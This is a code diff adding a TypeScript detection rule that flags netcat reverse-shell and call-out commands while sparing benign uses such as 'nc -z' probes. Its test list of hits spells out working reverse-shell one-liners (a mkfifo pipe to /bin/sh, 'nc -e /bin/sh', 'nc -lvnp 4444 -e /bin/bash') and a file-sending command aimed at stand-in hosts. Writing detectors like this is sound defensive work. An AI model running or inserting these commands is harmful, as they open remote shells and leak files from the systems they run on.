@@ -1,0 +1,108 @@
+import type { ByteRun } from '../byte-classes.ts';
+import { DIGITS, LOWER, UPPER, literal, noneOf, oneOf } from '../byte-classes.ts';
+import { isShell, withoutPunctuation, wordsFrom } from '../command.ts';
+import { WORD_START, matchAt } from '../expression.ts';
+import { defineRule } from '../rule.ts';
+
+const COMMAND = new RegExp(
+  String.raw`${WORD_START}(?:nc(?:\.exe|\.openbsd|\.traditional)?|ncat(?:\.exe)?|netcat)(?=[ \t\\])`,
+  'y',
+);
+
+const VARIABLE = String.raw`\$\{?\w{1,64}\}?`;
+const NAME = String.raw`(?:[A-Za-z0-9_][\w-]{0,62}\.){1,16}[A-Za-z][A-Za-z0-9-]{1,62}`;
+const IPV4 = String.raw`\d{1,3}(?:\.\d{1,3}){3}`;
+const IPV6 = String.raw`\[?[0-9A-Fa-f]{0,4}(?::[0-9A-Fa-f]{0,4}){2,7}\]?`;
+const HOST = new RegExp(`^(?:localhost|${NAME}|${IPV4}|${IPV6}|${VARIABLE})$`);
+const BARE_NAME = /^[A-Za-z][\w-]{0,62}$/;
+const PORT = new RegExp(String.raw`^(?:\d{1,5}|${VARIABLE})$`);
+const EXECUTE = /^(?:-[A-Za-z]*[ec]|--exec|--sh-exec)$/;
+const PROGRAM = /^(?:.*[\\/])?(?:cmd|powershell)(?:\.exe)?$/i;
+
+function isPort(word: string): boolean {
+  return PORT.test(word) && !(Number(word) > 65_535) && word !== '0';
+}
+
+/** Options come first, each with at most one value; then the host and, right behind it, the port. */
+function callsOut(words: readonly string[]): boolean {
+  for (const [index, word] of words.entries()) {
+    if (word.startsWith('-')) continue;
+    const next = words[index + 1];
+    const isHost = HOST.test(word) || (index > 0 && BARE_NAME.test(word));
+    if (isHost && next !== undefined && isPort(withoutPunctuation(next))) return true;
+    if (words[index - 1]?.startsWith('-') !== true) return false;
+  }
+  return false;
+}
+
+function runsProgram(words: readonly string[]): boolean {
+  return words.some((word, index) => EXECUTE.test(words[index - 1] ?? '') && (isShell(word) || PROGRAM.test(word)));
+}
+
+/** `nc -z` opens connections and sends nothing: how scripts wait for a service. */
+function onlyProbes(words: readonly string[]): boolean {
+  return words.some((word) => /^-[A-Za-y]*z[A-Za-y]*$/.test(word));
+}
+
+/** What may stand before the name: no letter or digit, but for the last letter of an escaped line end or tab. */
+const BEFORE: ByteRun = noneOf(`${DIGITS}${UPPER}${LOWER.replace(/[nrt]/g, '')}_`);
+const BLANK = oneOf(' \t\\');
+
+/**
+ * Netcat with a host and a port, or with a shell to serve. A host is a dotted name, an address, `localhost` or a
+ * variable; behind an option any name. `nc -z`, which only probes, does not count.
+ */
+export const reverseShell = defineRule({
+  id: 'reverse_shell',
+  type: 'INJECTION',
+  summary: 'Netcat is called with a host and a port.',
+  isSecret: false,
+  anchors: [
+    [...BEFORE, ...literal('nc'), ...BLANK],
+    [...literal('nc'), ...oneOf(' \t'), ...oneOf(`-$[:"'${DIGITS}`)],
+    [...BEFORE, ...literal('ncat'), ...BLANK],
+    [...literal('ncat'), ...oneOf(' \t'), ...oneOf(`-$[:${DIGITS}`)],
+    [...literal('netcat'), ...BLANK],
+    [...literal('nc.'), ...oneOf('eto'), ...oneOf('xrp'), ...oneOf('ea')],
+  ],
+  match(text, at) {
+    const from = matchAt(COMMAND, text, at) === undefined ? at + 1 : at;
+    const command = matchAt(COMMAND, text, from);
+    if (command === undefined) return undefined;
+    const words: string[] = [];
+    let to = command.to;
+    for (const next of wordsFrom(text, command.to)) {
+      words.push(next.word);
+      to = next.to;
+    }
+    if (!runsProgram(words) && (onlyProbes(words) || !callsOut(words))) return undefined;
+    return { from, to };
+  },
+  hits: [
+    'nc 198.51.100.7 4444',
+    'nc -e /bin/sh 198.51.100.7 4444',
+    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc evil.example 9001 >/tmp/f',
+    String.raw`{"cmd":"cd /tmp\nnc evil.example 443 -e /bin/bash"}`,
+    'ncat --ssl evil.example 8443',
+    'netcat -nv 2001:db8::7 31337',
+    'nc -lvnp 4444 -e /bin/bash',
+    'nc.traditional -c bash localhost 1337.',
+    String.raw`{"cmd":"nc \"$RHOST\" $RPORT"}`,
+    'run: nc -w 3 kali 4444 < /etc/hosts',
+  ],
+  misses: [
+    'Charlotte, NC 28202',
+    'nc 5 10',
+    'in nc where 20 people live',
+    'nc -zv db.example 5432',
+    'nc -lvnp 4444',
+    'nc evil.example 99999',
+    'async evil.example 4444',
+    'the Inc evil.example 4444',
+    'nc <host> <port>',
+    'concat a.b 12',
+    'nc version 1.2.3 40',
+    'sync -e sh 80',
+  ],
+  source: 'nc(1) of OpenBSD and of traditional netcat; ncat(1).',
+});
